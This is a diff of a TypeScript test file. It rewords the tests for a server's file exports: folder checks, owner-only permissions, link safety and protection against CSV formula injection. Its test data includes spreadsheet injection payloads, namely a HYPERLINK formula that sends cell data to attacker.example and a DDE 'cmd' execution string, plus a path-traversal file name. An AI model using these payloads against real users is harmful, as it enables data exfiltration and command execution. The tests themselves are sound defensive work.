@@ -1,4 +1,4 @@
-/** Files that the server writes: where they may be, who may read them, and what is in them that could harm who opens them. */
+/** Files that the server writes: where they can be, who can read them, and that they are safe to open. */
 import crypto from 'node:crypto';
 import {
   chmodSync,
@@ -35,14 +35,14 @@ function folderIn(home: string): string {
 
 describe('the folder for files', () => {
   const places: readonly (readonly [string, (path: string) => void])[] = [
-    ['is not there', () => {}],
+    ['does not exist', () => {}],
     ['is a file', (path) => writeFileSync(path, '')],
-    ['is a link to nowhere', (path) => symlinkSync(`${path}-nowhere`, path)],
+    ['is a dangling link', (path) => symlinkSync(`${path}-nowhere`, path)],
     ['is a link to a device', (path) => symlinkSync('/dev/null', path)],
     ['can’t be written to', (path) => void mkdirSync(path, 0o500)],
   ];
 
-  test.each(places)('that %s is refused in words, before anything is written', async (name, make) => {
+  test.each(places)('that %s is refused with a clear error before anything is written', async (name, make) => {
     if (name === 'can’t be written to' && process.getuid?.() === 0) return;
     const home = freshHome();
     const folder = join(home, 'there');
@@ -59,14 +59,14 @@ describe('the folder for files', () => {
     else expect(reply.text).toContain('VIDEO_HOSTING_FILES_DIR');
   });
 
-  test('that is not set is asked for', async () => {
+  test('that is not set is named in the error', async () => {
     const { client, hasData } = await start({ env: NEVER });
     const reply = await client.callTool(TOOL, { exportAs: 'csv' });
     expect(hasData()).toBe(false);
     expect(reply).toMatchObject({ isError: true, text: expect.stringContaining('Set VIDEO_HOSTING_FILES_DIR') });
   });
 
-  test('may be a link that the user made: what is written is in what it leads to', async () => {
+  test('can be a symbolic link: files are written to its target', async () => {
     const home = freshHome();
     const real = folderIn(home);
     symlinkSync(real, join(home, 'link'));
@@ -75,7 +75,7 @@ describe('the folder for files', () => {
     expect(reply.data?.path).toBe(join(real, readdirSync(real)[0] ?? ''));
   });
 
-  test('that is swapped for a link while an export runs gets nothing', async () => {
+  test('that is replaced by a link during an export receives no file', async () => {
     const home = freshHome();
     const [folder, elsewhere] = [folderIn(home), join(home, 'elsewhere')];
     mkdirSync(elsewhere);
@@ -90,13 +90,13 @@ describe('the folder for files', () => {
   });
 });
 
-describe('a file that is written', () => {
-  test('is never one that was there, nor goes through a link', async () => {
+describe('an exported file', () => {
+  test('never replaces an existing file or follows a link', async () => {
     const home = freshHome();
     const folder = folderIn(home);
     const victim = join(home, 'victim');
     writeFileSync(victim, 'precious');
-    // The name can't be guessed; here it can.
+    // The random part of the name is fixed, so that the test knows the name.
     const guessed = vi.spyOn(crypto, 'randomBytes').mockImplementation(() => Buffer.alloc(8) as never);
     syncBuiltinESMExports();
     try {
@@ -115,7 +115,7 @@ describe('a file that is written', () => {
     expect(lstatSync(join(folder, `emails-${'0'.repeat(16)}.csv`)).isSymbolicLink()).toBe(true);
   });
 
-  test('is for its owner alone, also while it is written and whatever the mask', async () => {
+  test('is readable only by its owner, also while it is written and with a umask of 0', async () => {
     const folder = folderIn(freshHome());
     const mask = process.umask(0);
     try {
@@ -131,7 +131,7 @@ describe('a file that is written', () => {
     }
   });
 
-  test('is gone when it could not be finished, and its name is not another’s', async () => {
+  test('is removed if it can’t be finished, and its name contains no path', async () => {
     const folder = folderIn(freshHome());
     const fails = createExportFile(folder, '../../evil\u0000\n/name', 'csv', async (write) => {
       await write('half');
@@ -142,7 +142,7 @@ describe('a file that is written', () => {
     expect(readdirSync(folder)).toEqual([]);
   });
 
-  test('that a killed process left half written goes with the next export; others’ files stay', async () => {
+  test('that a killed process left unfinished is removed by the next export, and other files stay', async () => {
     const folder = folderIn(freshHome());
     const stale = join(folder, 'emails-2026-01-01-0011.csv.unfinished');
     const fresh = join(folder, 'emails-2026-01-02-0022.csv.unfinished');
@@ -154,7 +154,7 @@ describe('a file that is written', () => {
     for (const path of [fresh, ...others.map((name) => join(folder, name))]) expect(existsSync(path)).toBe(true);
   });
 
-  test('is not left half written by a server that is told to leave', async () => {
+  test('is not left unfinished by a server that gets SIGTERM', async () => {
     const home = freshHome();
     const folder = folderIn(home);
     const demo = await startService();
@@ -168,8 +168,8 @@ describe('a file that is written', () => {
   });
 });
 
-describe('everything that is kept', () => {
-  test('is for its owner alone', async () => {
+describe('every file and folder in the data folder', () => {
+  test('is accessible only to its owner', async () => {
     const home = freshHome();
     const folder = folderIn(home);
     const { client, demo, dataDir } = await start({ home, env: { ...NEVER, VIDEO_HOSTING_FILES_DIR: folder } });
@@ -188,7 +188,7 @@ describe('everything that is kept', () => {
   });
 });
 
-describe('a CSV for people', () => {
+describe('an export of hostile texts', () => {
   const ATTACKS = [
     '=HYPERLINK("https://attacker.example/?"&A1,"click")',
     "=cmd|' /C calc'!A0",
@@ -217,7 +217,7 @@ describe('a CSV for people', () => {
     'line\u2028separator',
   ];
 
-  test('starts no formula, whatever stands where and whatever parts its cells, and hides nothing', async () => {
+  test('as CSV starts no formula with any delimiter, and has no hidden characters', async () => {
     const home = freshHome();
     const folder = folderIn(home);
     const demo = await startService();
@@ -236,11 +236,11 @@ describe('a CSV for people', () => {
       const rows: string[][] = parse(text, { delimiter, relax_column_count: true, relax_quotes: true });
       for (const cell of rows.flat()) expect(cell.trimStart()).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/);
     }
-    // What is harmless stands as it was.
+    // Harmless text is unchanged.
     expect(text).toContain('bidi gnp.exe');
   });
 
-  test('in JSON, which programs read, every text is exact, and nothing hides either', async () => {
+  test('as JSON keeps every text exactly, and has no hidden characters', async () => {
     const home = freshHome();
     const folder = folderIn(home);
     const demo = await startService();
@@ -254,12 +254,12 @@ describe('a CSV for people', () => {
     const text = readFileSync(join(folder, readdirSync(folder)[0] ?? ''), 'utf8');
     const records: { fullName: string }[] = JSON.parse(text);
     expect(records.map(({ fullName }) => fullName)).toEqual(ATTACKS);
-    // Line breaks part its records.
+    // Line breaks separate the records.
     expect(hiddenIn(JSON.stringify(text.replaceAll('\\', '/')))).toEqual([]);
   });
 });
 
-test('an export whose people are gone by the time that it is written is a file all the same', async () => {
+test('an export writes an empty file if all emails are deleted after the plan', async () => {
   for (const [exportAs, empty] of [
     ['csv', 'fullName,email,mobileNumber,videoKey,channelKey,created\n'],
     ['json', '[\n]\n'],
@@ -268,7 +268,7 @@ test('an export whose people are gone by the time that it is written is a file a
     const folder = folderIn(home);
     const demo = await startService();
     const { client } = await start({ demo, home, env: { ...NEVER, VIDEO_HOSTING_FILES_DIR: folder } });
-    // They were there when the plan counted them.
+    // The plan has counted the emails before they are deleted.
     demo.behaviour.onProcessed = () => {
       demo.world.emails.length = 0;
     };
